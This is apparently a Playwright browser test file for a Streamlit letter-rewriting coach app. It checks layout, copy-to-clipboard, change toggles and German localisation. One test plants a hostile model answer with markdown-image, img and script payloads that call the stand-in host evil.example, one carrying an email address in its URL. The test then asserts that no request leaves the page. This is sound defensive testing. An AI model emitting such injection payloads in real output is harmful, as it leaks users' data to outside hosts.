"""The page in a real Chromium, at desktop (1440x900) and phone (390x844) sizes.

One browser for the whole module, a fresh context (locale, viewport, clipboard permission) per
test. What a user gets after the click: the reply and a working copy button on the first screen,
accept/reject of a change, an edit that is re-checked, the German interface for a de-DE browser, a
good draft sent as it is, and a hostile model answer that makes no request leave the page.

The screenshots in docs/ come from these tests::

    COACH_SCREENSHOTS=docs .venv/bin/python -m pytest tests/test_ui_browser.py

Needs Debian's chromium at /usr/bin/chromium (or CHROMIUM=/path) and the playwright package;
never downloads a browser.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import stop_process

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "ui" / "app.py"
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--no-first-run", "--disable-sync"]
DESKTOP = {"width": 1440, "height": 900}
PHONE = {"width": 390, "height": 844}

CLIENT_MESSAGE = (
    "Sehr geehrter Herr Lorenz,\n\n"
    "unser Hauptlieferant hat überraschend alle Lieferungen eingestellt, die Produktion steht still. "
    "Wir müssen das Führungskräfte-Coaching deshalb leider absagen.\n\n"
    "Mit freundlichen Grüßen\nSabine Roth"
)
DRAFT = (
    "Sehr geehrte Frau Roth,\n\n"
    "kein Problem, ich habe das Coaching storniert. Ehrlich gesagt halte ich das für eine "
    "Überreaktion. Laut Vertrag fällt allerdings eine Ausfallgebühr an.\n\n"
    "Mit freundlichen Grüßen\nMarkus Lorenz"
)


def _free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_healthy(url: str, proc: subprocess.Popen, timeout: float = 45.0) -> float:
    """Poll /_stcore/health until it answers ok; returns the seconds it took."""
    started = time.monotonic()
    deadline = started + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"streamlit exited early with code {proc.returncode}")
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=1) as resp:
                if resp.status == 200:
                    return time.monotonic() - started
        except OSError:
            pass
        time.sleep(0.1)
    raise TimeoutError(f"streamlit did not become healthy within {timeout:.0f} s")


@contextlib.contextmanager
def streamlit_server(data_dir: Path | None = None, extra_env: dict[str, str] | None = None) -> Iterator[str]:
    """Serve ui/app.py on 127.0.0.1:<free port> in rules-only mode; always stops the server."""
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    env.update({"COACH_OFFLINE": "1", "ANONYMIZED_TELEMETRY": "False", "PYTHONUNBUFFERED": "1"})
    tmp = None
    if data_dir is None:
        tmp = tempfile.mkdtemp(prefix="coach-ui-")
        data_dir = Path(tmp)
    env["COACH_DATA_DIR"] = str(data_dir)
    env.update(extra_env or {})
    log = tempfile.TemporaryFile()
    cmd = [sys.executable, "-m", "streamlit", "run", str(APP), "--server.port", str(port),
           "--server.address", "127.0.0.1", "--server.headless", "true",
           "--browser.gatherUsageStats", "false", "--server.fileWatcherType", "none"]
    proc = subprocess.Popen(cmd, cwd=str(REPO), env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    streamlit_server.pid = proc.pid  # type: ignore[attr-defined]
    try:
        try:
            streamlit_server.health_seconds = _wait_healthy(url, proc)  # type: ignore[attr-defined]
        except Exception:
            log.seek(0)
            sys.stderr.write(log.read().decode("utf-8", "replace")[-4000:])
            raise
        yield url
    finally:
        stop_process(proc)
        log.close()
        if tmp:
            shutil.rmtree(tmp, ignore_errors=True)


def require_browser() -> None:
    """Skip, with the reason, where no Chromium is installed; CI sets COACH_REQUIRE_BROWSER=1 to make it a failure."""
    if Path(CHROMIUM).exists():
        return
    why = f"no Chromium at {CHROMIUM} (install Debian's chromium or set CHROMIUM=/path/to/chromium)"
    if os.environ.get("COACH_REQUIRE_BROWSER") == "1":
        pytest.fail(why)
    pytest.skip(why)


pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    require_browser()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, timeout=30_000)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture(scope="module")
def offline_url(browser: object, session_data_dir: Path) -> Iterator[str]:
    with streamlit_server(session_data_dir) as url:
        yield url


class Visit:
    """A browser context at one size and locale; records every request the page makes."""

    def __init__(self, browser, viewport: dict[str, int], locale: str):  # type: ignore[no-untyped-def]
        self.context = browser.new_context(viewport=viewport, locale=locale, device_scale_factor=1,
                                           permissions=["clipboard-read", "clipboard-write"],
                                           is_mobile=viewport["width"] < 500, has_touch=viewport["width"] < 500)
        self.requests: list[str] = []
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000)
        self.viewport = viewport

    def close(self) -> None:
        self.context.close()

    def open(self, url: str) -> None:
        self.page.goto(url, wait_until="domcontentloaded")
        self.page.locator(".st-key-draft textarea").wait_for(state="visible")

    def rewrite(self, draft: str, client: str | None = None) -> float:
        """Fill the fields, click, wait until the reply box holds the result; seconds from click to result."""
        page = self.page
        if client is not None:
            page.locator(".st-key-client_message textarea").fill(client)
        box = page.locator(".st-key-draft textarea")
        box.fill(draft)
        box.press("Tab")  # leave the text area so Streamlit commits its value before the click
        t0 = time.monotonic()
        page.locator(".st-key-run button").click()
        page.locator(".st-key-reply textarea").wait_for(state="visible")
        page.locator(".st-key-coach_copy iframe").wait_for(state="visible")
        took = time.monotonic() - t0
        page.wait_for_timeout(700)  # the scroll into view and the last deltas
        return took

    def reply(self) -> str:
        return self.page.locator(".st-key-reply textarea").input_value()

    def checklist_now(self) -> dict[str, bool]:
        rows = self.page.locator("table.coach-checklist tr[data-move]")
        return {rows.nth(i).get_attribute("data-move"): rows.nth(i).get_attribute("data-ok") == "1"
                for i in range(rows.count())}

    def in_first_screen(self, selector: str) -> bool:
        box = self.page.locator(selector).first.bounding_box()
        return box is not None and box["y"] >= -1 and box["y"] + box["height"] <= self.viewport["height"] + 1

    def shot(self, name: str, full: bool = False) -> Path:
        out = Path(os.environ.get("COACH_SCREENSHOTS") or tempfile.gettempdir())
        if not out.is_absolute():
            out = REPO / out
        out.mkdir(parents=True, exist_ok=True)
        if full:
            _fit_viewport_to_content(self.page)
        path = out / name
        self.page.screenshot(path=str(path), full_page=full)
        if full:
            self.page.set_viewport_size(self.viewport)
        return path


@contextlib.contextmanager
def visit(browser, viewport: dict[str, int], locale: str) -> Iterator[Visit]:  # type: ignore[no-untyped-def]
    v = Visit(browser, viewport, locale)
    try:
        yield v
    finally:
        v.close()


def _fit_viewport_to_content(page, max_height: int = 8000) -> None:  # type: ignore[no-untyped-def]
    """Streamlit scrolls inside its own container, so full_page alone shows one screen: grow the viewport."""
    height = page.evaluate(
        """() => Math.max(document.body.scrollHeight,
             ...[...document.querySelectorAll('[data-testid="stMain"], [data-testid="stAppViewContainer"], '
                  + '[data-testid="stMainBlockContainer"]')].map(e => e.scrollHeight))"""
    )
    width = page.viewport_size["width"]
    page.set_viewport_size({"width": width, "height": min(int(height) + 24, max_height)})
    page.wait_for_timeout(300)


def _only_loopback(urls: list[str]) -> list[str]:
    from urllib.parse import urlsplit

    return [u for u in urls if urlsplit(u).scheme not in ("data", "blob", "about")
            and urlsplit(u).hostname not in ("127.0.0.1",)]


# ----------------------------------------------------------------------------- the tests


@pytest.mark.parametrize(("size", "viewport", "locale"), [("desktop", DESKTOP, "de-DE"), ("phone", PHONE, "en-US")])
def test_the_reply_and_a_working_copy_button_are_on_the_first_screen(
        browser: object, offline_url: str, size: str, viewport: dict[str, int], locale: str) -> None:
    with visit(browser, viewport, locale) as v:
        v.open(offline_url)
        german = locale.startswith("de")
        run_label = "Prüfen und umformulieren" if german else "Check and rewrite"
        assert v.page.locator(".st-key-run button").inner_text().strip().endswith(run_label)
        assert v.page.get_by_role("button", name="Deploy").count() == 0  # production toolbar
        v.rewrite(DRAFT, CLIENT_MESSAGE)
        reply = v.reply()
        assert reply.startswith("Sehr geehrte Frau Roth,") and "kein Problem" not in reply
        assert v.in_first_screen(".st-key-reply textarea"), "the reply is not on the first screen"
        assert v.in_first_screen(".st-key-coach_copy iframe"), "the copy button is not on the first screen"
        v.shot(f"ui-{size}-{locale}.png")
        button = v.page.frame_locator(".st-key-coach_copy iframe").locator("button")
        assert button.is_visible()  # always shown, not on hover only
        button.tap() if viewport is PHONE else button.click()
        v.page.frame_locator(".st-key-coach_copy iframe").get_by_text("Kopiert" if german else "Copied").wait_for()
        assert v.page.evaluate("navigator.clipboard.readText()") == reply
        assert _only_loopback(v.requests) == []
        if size == "desktop":
            v.shot("screenshot.png", full=True)


def test_rejecting_and_accepting_a_change_updates_the_letter_and_the_checklist(
        browser: object, offline_url: str) -> None:
    with visit(browser, DESKTOP, "en-US") as v:
        v.open(offline_url)
        v.rewrite(DRAFT, CLIENT_MESSAGE)
        full, checks = v.reply(), v.checklist_now()
        assert all(checks.values())
        toggles = v.page.locator('[class*="st-key-change_"] [data-testid="stCheckbox"]')
        assert toggles.count() >= 2
        first_removed = v.page.locator('[class*="st-key-change_"]').filter(has_text="removed").first
        key = next(c for c in (first_removed.get_attribute("class") or "").split() if c.startswith("st-key-change_"))
        faulty = v.page.locator(f".{key}")  # the same change card on every rerun, whatever its label says then
        faulty.locator('[data-testid="stCheckbox"]').click()
        # the reply box is briefly absent while Streamlit reruns: wait for it to be back with the new text
        v.page.wait_for_function(
            "(full) => { const t = document.querySelector('.st-key-reply textarea'); return t !== null && t.value !== full; }",
            arg=full)
        assert v.reply() != full
        # the sentence it brought back is a fault: the checklist follows (the page may render it a moment later)
        v.page.locator('table.coach-checklist tr[data-move][data-ok="0"]').first.wait_for()
        assert not all(v.checklist_now().values())
        v.shot("ui-change-rejected.png")
        faulty.locator('[data-testid="stCheckbox"]').click()
        v.page.wait_for_function(
            "(full) => { const t = document.querySelector('.st-key-reply textarea'); return t !== null && t.value === full; }",
            arg=full)
        v.page.wait_for_function(
            "() => document.querySelectorAll('table.coach-checklist tr[data-move][data-ok=\"0\"]').length === 0")
        assert all(v.checklist_now().values())


def test_editing_the_reply_rechecks_it(browser: object, offline_url: str) -> None:
    with visit(browser, PHONE, "de-DE") as v:
        v.open(offline_url)
        v.rewrite(DRAFT, CLIENT_MESSAGE)
        assert all(v.checklist_now().values())
        box = v.page.locator(".st-key-reply textarea")
        box.fill(v.reply().replace("Mit freundlichen", "Kein Problem, ich habe alles storniert.\n\nMit freundlichen"))
        box.press("Tab")
        v.page.locator('table.coach-checklist tr[data-move="accepts_cancellation"][data-ok="0"]').wait_for()
        v.page.get_by_text("Sie haben die Antwort bearbeitet").wait_for()
        v.shot("ui-phone-edited.png")


def test_a_good_draft_says_send_it_as_it_is(browser: object, offline_url: str) -> None:
    from coach.web.examples import EXAMPLES

    good = next(e for e in EXAMPLES if "does it well" in e.title)
    with visit(browser, PHONE, "en-GB") as v:
        v.open(offline_url)
        v.rewrite(good.draft, good.client_message)
        v.page.get_by_test_id("stAlertContentSuccess").get_by_text("Send it as it is").wait_for()
        assert v.in_first_screen('[data-testid="stAlertContentSuccess"]')
        assert v.reply().strip() == good.draft.strip()
        v.shot("ui-phone-good-draft.png")


HOSTILE = ("![](http://evil.example/x.png?m=[EMAIL_1]) <img src=\"http://evil.example/i.png\"> "
           "<script>fetch('http://evil.example/s')</script> ")


def test_a_hostile_model_answer_makes_no_request_leave_the_page(browser: object, session_data_dir: Path) -> None:
    from helpers import json_answer, letter_from
    from llm_server import FakeLLMServer

    body = (HOSTILE + "ich kann gut nachvollziehen, wie sehr Sie das beschäftigt. Über unsere Zusammenarbeit "
            "können wir später sprechen. Zunächst möchte ich mich mit Ihnen zusammensetzen und einen konkreten "
            "Plan erarbeiten, wie Sie gut durch diese Zeit kommen.")
    draft = DRAFT.replace("Markus Lorenz", "Markus Lorenz\nmarkus.lorenz@example.com")
    with FakeLLMServer(default=lambda req: json_answer(letter_from(req, body), chunk_size=7)) as srv:
        env = {"COACH_OFFLINE": "0", "OPENAI_BASE_URL": srv.base_url, "OPENAI_API_KEY": "sk-test",
               "COACH_MODEL": "test-model", "COACH_LLM_TIMEOUT": "20"}
        with streamlit_server(session_data_dir, extra_env=env) as url, visit(browser, DESKTOP, "de-DE") as v:
            v.open(url)
            v.page.get_by_text("Sprachmodell: test-model").wait_for()
            v.rewrite(draft, CLIENT_MESSAGE)
            v.page.wait_for_timeout(1500)
            assert srv.chat_requests(), "the model was not asked"
            for frame in v.page.frames:  # no element anywhere points at the outside host
                bad = frame.evaluate("[...document.querySelectorAll('[src*=\"evil\"], [href*=\"evil\"]')].map(e => (e.closest('[data-testid]')?.getAttribute('data-testid') + ' :: ' + (e.closest('[data-testid]')?.textContent || '').slice(0, 300)))")
                assert bad == [], bad
                assert frame.evaluate("document.querySelectorAll('[src*=\"evil\"], [href*=\"evil\"]').length") == 0
            shown = v.reply()
            if "evil.example" in shown:  # the model's text is in the letter: as text, never as markup
                assert "<img src=" in shown
            outside = _only_loopback(v.requests)
            assert outside == [], outside
            v.shot("ui-hostile-llm.png", full=True)


if __name__ == "__main__":
    os.environ.setdefault("COACH_SCREENSHOTS", str(REPO / "docs"))
    sys.exit(pytest.main([__file__, "-q", "-p", "no:cacheprovider"]))
